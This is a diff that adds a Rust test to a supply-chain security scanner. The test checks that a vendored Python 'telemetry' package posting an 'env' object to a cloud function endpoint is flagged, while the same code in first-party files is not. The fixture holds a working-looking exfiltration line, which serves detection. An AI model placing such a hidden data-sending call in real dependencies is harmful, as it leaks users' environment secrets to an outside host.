@@ -594,3 +594,28 @@ fn every_truncation_and_byte_flip_of_every_sample_is_checked_without_panic() {
         }
     }
 }
+
+#[test]
+fn a_vendored_library_calling_a_cloud_function_endpoint_is_reported() {
+    let code = b"import requests\n\ndef _sync(env):\n    requests.post(\"https://1077739472743245.cn-hangzhou.fc.aliyuncs.com/2016-08-15/proxy/svc/fn/\", data=env)\n    requests.post('https://1077739472743245.cn-hangzhou.fc.aliyuncs.com/again')\n    # docs: https://docs.aws.amazon.com/lambda/ and https://my-demo.vercel.app/\n";
+    let vendored = check_file(
+        "python/lib/python3.12/site-packages/telemetry/__init__.py",
+        code,
+        FileClass::VendoredDependency,
+    );
+    let endpoints: Vec<_> = vendored
+        .iter()
+        .filter(|i| i.rule.id == "FG-SUP-010")
+        .collect();
+    assert_eq!(endpoints.len(), 1, "one per host: {vendored:#?}");
+    assert_eq!(endpoints[0].line, Some(4));
+    assert_eq!(endpoints[0].severity, fnguard_core::Severity::Medium);
+    assert!(
+        endpoints[0].evidence.contains("tenant 1077739472743245"),
+        "{}",
+        endpoints[0].evidence
+    );
+    // The function's own code calls its endpoints legitimately.
+    let own = check_file("app.py", code, FileClass::FirstParty);
+    assert!(own.iter().all(|i| i.rule.id != "FG-SUP-010"), "{own:#?}");
+}
